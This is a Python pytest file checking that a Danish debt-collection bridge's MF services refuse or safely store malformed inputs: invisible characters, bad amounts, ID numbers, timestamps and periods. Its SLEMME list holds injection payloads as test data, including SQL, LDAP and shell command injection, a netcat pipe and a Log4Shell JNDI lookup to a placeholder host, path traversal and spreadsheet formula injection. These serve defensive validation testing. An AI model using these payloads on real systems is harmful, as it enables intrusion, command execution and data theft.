"""Values that are wrong in every way, over the MF services: one answer each, never a technical error, none half read."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

import pytest
import structlog
from lxml import etree
from mf_hjaelp import SYSTEM, hovedfejl, ider, laes, resultater, tekster

from fordringsbro.aktion.model import Backend
from fordringsbro.klient.mf_beskeder import MFSkyldner, hoved, konvolut, leverance, nedskriv, opret
from fordringsbro.platform.tegn import som_json, synlig

NAAR = datetime(2026, 11, 20, 12, tzinfo=UTC)
AFVIST, TAGET = ("AFVIST", ["208"]), ("MODTAGET", [])
#: Characters that nobody sees, and those of them that a text of several lines may have.
USETE = [
    *("\u0085", "\u2028", "\u2029", "\x7f", "\x80", "\x9b", "\x9f"),
    *("\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u00ad", "\u202a", "\u202e", "\u2066", "\u2069"),
    *("\ufeff", "\u061c", "\U000e0041"),
]
LINJER = ["\n", "\r", "\r\n", "\t"]
#: What some program or other would run, follow or fall over.
SLEMME = [
    "'; DROP TABLE fordring; --", "1 OR 1=1", "*)(uid=*))(|(uid=*", "$(reboot)", "`id`", "| nc 203.0.113.1 1",
    "<script>alert(1)</script>", "<!--", "]]>", "&amp;lt;", "=cmd|' /C calc'!A1", "+1+1", "@SUM(1)", "-2+3",
    "../../../../etc/passwd", "%00", "%s%n%d", "{0}", "{{7*7}}", "${jndi:ldap://203.0.113.1/a}", "\\x00", "\\u0000", "\\",
    "null", "None", "NaN", "undefined", "true", "0", "-0", "1e400", "٣", "½", "ß", "İi", "Ⅳ", "ﷺ", "Å", "A\u030a",
    "\U0001f600" * 3, "\U0001f469\U0001f3fe", "z\u0351\u0352\u0353", "\u0e33", "CON", "aux.txt", "FB-299",
]  # fmt: skip


def delivery(*aktioner, leverance_id=1) -> bytes:
    return konvolut(
        "MFFordringIndberet", {**hoved(SYSTEM, f"t-{leverance_id}", NAAR), **leverance(leverance_id, aktioner)}
    )


def med(xml: bytes, element: str, tekst: str) -> bytes:
    rod = etree.fromstring(xml)
    next(rod.iter(f"{{*}}{element}")).text = tekst
    return etree.tostring(rod, encoding="utf-8")


@pytest.mark.fault("E6", "E8", "E10")
def test_characters_that_nobody_sees_are_refused_in_what_goes_to_collection(system, krav):
    """In a reference each of them is 208; in a description and a note too, but for tabs and line breaks."""
    usete = [
        k
        for tegn in USETE
        for k in ({"reference": f"a{tegn}b"}, {"beskrivelse": f"a{tegn}b"}, {"noter": (f"a{tegn}b",)})
    ]
    linjer = [{"reference": f"a{tegn}b"} for tegn in LINJER]
    taget = [k for tegn in LINJER for k in ({"beskrivelse": f"a{tegn}b"}, {"noter": (f"a{tegn}b",)})]
    svar = laes(
        system.post("MFFordringIndberet", delivery(*(opret(1001, krav(**k)) for k in (*usete, *linjer, *taget))))
    )
    ventet = [AFVIST] * len(usete + linjer) + [TAGET] * len(taget)
    assert resultater(svar) == ventet


@pytest.mark.fault("E16", "V13", "E9", "E14", "E12", "E7")
def test_texts_that_some_program_would_run_are_texts(system, krav):
    """Each is taken in a description, a note and a reference, comes out as it came in, and means nothing on its way."""
    krævet = [
        krav(beskrivelse=f"{tekst} x", noter=(tekst,), reference=f"{n} {tekst}"[:40]) for n, tekst in enumerate(SLEMME)
    ]
    svar = laes(system.post("MFFordringIndberet", delivery(*(opret(1001, k) for k in krævet))))
    assert resultater(svar) == [TAGET] * len(SLEMME)
    with system.installation.database.transaction() as conn:
        for (aktion_id, _, _), sendt in zip(ider(svar), krævet, strict=True):
            data = system.installation.nymf.aktion(conn, aktion_id).data
            assert (data.beskrivelse, data.reference) == (sendt.beskrivelse, sendt.reference)
    for tekst in SLEMME:
        assert "\x1b" not in synlig(tekst) + som_json(tekst)


@pytest.mark.fault("V1", "V2")
def test_amounts_in_every_bad_way_are_208_by_their_path(system, krav):
    """None is rounded, guessed or read by half, and none is an unexpected error; the value is nowhere in the answer."""
    xml = delivery(opret(1001, krav()))
    slemme = ["NaN", "INF", "-INF", "1E5", "1e5", "100,00", "1.005", "9" * 5000, "1.250,75", "1 250", "٣٤", "", "  ", "0x1F", "1_0", "--1", "."]  # fmt: skip
    for tekst in slemme:
        http = system.post("MFFordringIndberet", med(xml, "FordringBeloeb", tekst))
        svar = laes(http)
        steder = [*tekster(svar, "FejlTekst"), *tekster(svar, "ModtagFordringAktionAfvistTekst")]
        assert {*hovedfejl(svar), *(n for _, numre in resultater(svar) for n in numre)} == {"208"}, tekst[:9]
        assert any("FordringBeloeb" in sted for sted in steder)
        assert len(tekst) < 4 or tekst not in http.text


@pytest.mark.fault("V1")
def test_minus_nought_is_nought_and_less_is_refused(system, krav):
    """-0.00 is judged as 0, by a rule or none; an amount below nought is never taken."""
    for nummer, tekst in enumerate(("-1.00", "-0.01"), start=1):
        svar = laes(
            system.post(
                "MFFordringIndberet", med(delivery(opret(1001, krav()), leverance_id=nummer), "FordringBeloeb", tekst)
            )
        )
        assert [status for status, _ in resultater(svar)] == ["AFVIST"]
    numre = []
    for nummer, tekst in enumerate(("0", "-0.00", "0.00"), start=10):
        dele = delivery(opret(1001, krav()), leverance_id=nummer)
        numre.append(resultater(laes(system.post("MFFordringIndberet", med(dele, "FordringBeloeb", tekst)))))
    assert numre[0] == numre[1] == numre[2]


@pytest.mark.fault("V7")
def test_numbers_of_persons_and_companies(system, krav):
    """A number is judged by its form and by the day that it begins with; check digits say nothing."""
    gode = [("CPR", "0101800001"), ("CPR", "0101070001"), ("CPR", "2902004001"), ("CPR", "3112991111"), ("CPR", "1111111118"),
            ("SE", "29000101"), ("SE", "00000001"), ("SE", "12345678"), ("AKR", "12345678901"), ("AKR", "1")]  # fmt: skip
    daarlige = [
        ("CPR", "0000000000"),
        ("CPR", "2902000001"),
        ("CPR", "2902010001"),
        ("SE", "00000000"),
        ("AKR", "0"),
        ("AKR", "123456789012"),
    ]
    aktioner = [
        opret(1001, krav(skyldnere=(MFSkyldner(ident=i, ident_type=t, foraeldelsesdato=date(2029, 9, 3)),)))
        for t, i in (*gode, *daarlige)
    ]
    svar = laes(system.post("MFFordringIndberet", delivery(*aktioner)))
    assert hovedfejl(svar) == []
    udfald = [status for status, _ in resultater(svar)]
    assert udfald == ["MODTAGET"] * len(gode) + ["AFVIST"] * len(daarlige)


@pytest.mark.fault("V7")
def test_what_is_no_number_of_a_person_or_company_breaks_the_schema(system, krav):
    """Too short, too long, with a dash, with letters, a replacement number, of the 32nd or the 13th month: 208."""
    xml = delivery(opret(1001, krav()))
    felt = "PersonCivilRegistrationIdentifier"
    for tekst in ("010180000", "01018000011", "010180-0001", "01018O0001", "6101800001", "3201800001", "0113800001", "3002800001",
                  "٠١٠١٨٠٠٠٠١", "", "0101800001\u200b", " 0101800001"):  # fmt: skip
        http = system.post("MFFordringIndberet", med(xml, felt, tekst))
        assert hovedfejl(laes(http)) == ["208"], tekst
        assert len(tekst) < 4 or tekst not in http.text


@pytest.mark.fault("V5")
def test_a_time_is_read_as_the_moment_it_is(system, krav):
    """A header's time in every form that XML Schema has is taken, and no other."""
    xml = delivery(opret(1001, krav()))
    for tid in ("2026-11-20T24:00:00", "2026-11-20T12:00:00.123456789Z", "2026-11-20T12:00:00", "2026-11-20T12:00:00+14:00",
                "2026-11-20T12:00:00-14:00", "2026-10-25T02:30:00", " 2026-11-20T12:00:00Z\n"):  # fmt: skip
        assert hovedfejl(laes(system.post("MFFordringIndberet", med(xml, "TransaktionTid", tid)))) in ([], ["171"]), tid
    for tid in (
        "2026-11-20T24:00:01",
        "2026-12-31T23:59:60Z",
        "2026-11-20T12:00:00+14:01",
        "2026-11-20 12:00:00",
        "20. november",
        "",
    ):
        assert hovedfejl(laes(system.post("MFFordringIndberet", med(xml, "TransaktionTid", tid)))) == ["208"], tid


@pytest.mark.fault("V6")
def test_a_period_turned_round_is_refused_by_its_field(system, krav):
    """A period whose end comes before its beginning is refused; one of a single day is not."""
    dage = [
        (date(2026, 9, 30), date(2026, 9, 1)),
        (date(2026, 9, 2), date(2026, 9, 1)),
        (date(2026, 9, 1), date(2026, 9, 1)),
    ]
    svar = laes(system.post("MFFordringIndberet", delivery(*(opret(1001, krav(periode=p)) for p in dage))))
    assert [status == "AFVIST" for status, _ in resultater(svar)] == [True, True, False]


@pytest.mark.fault("V6")
def test_a_correction_takes_effect_on_a_day_that_was(scene):
    """A write-down of tomorrow, or of before 1900, is refused; of today, and of a payment before the hand-over, it is not."""
    i_dag = scene.inddrivelsen.clock.now().date()
    hoved_ = scene.opret(Backend.PSRM)
    dage = [i_dag + timedelta(days=1), i_dag + timedelta(days=400), date(1899, 12, 31), i_dag, date(2026, 9, 10)]
    udfald = scene.gor(*(nedskriv(1001, hoved_, 100, virkningsdato=dag) for dag in dage))
    assert [status for status, _ in udfald] == ["AFVIST", "AFVIST", "AFVIST", "UDFOERT", "UDFOERT"]


@pytest.mark.fault("V8")
def test_a_number_in_a_free_text_goes_where_the_text_goes_and_nowhere_else(system, krav):
    """Somebody's number in a description is taken, since nobody can tell whose it is; no log line and no answer has it."""
    with structlog.testing.capture_logs() as logs:
        http = system.post(
            "MFFordringIndberet", delivery(opret(1001, krav(beskrivelse="Gælder 0201800002 Testperson To")))
        )
    assert resultater(laes(http)) == [TAGET]
    assert "0201800002" not in http.text + repr(logs)
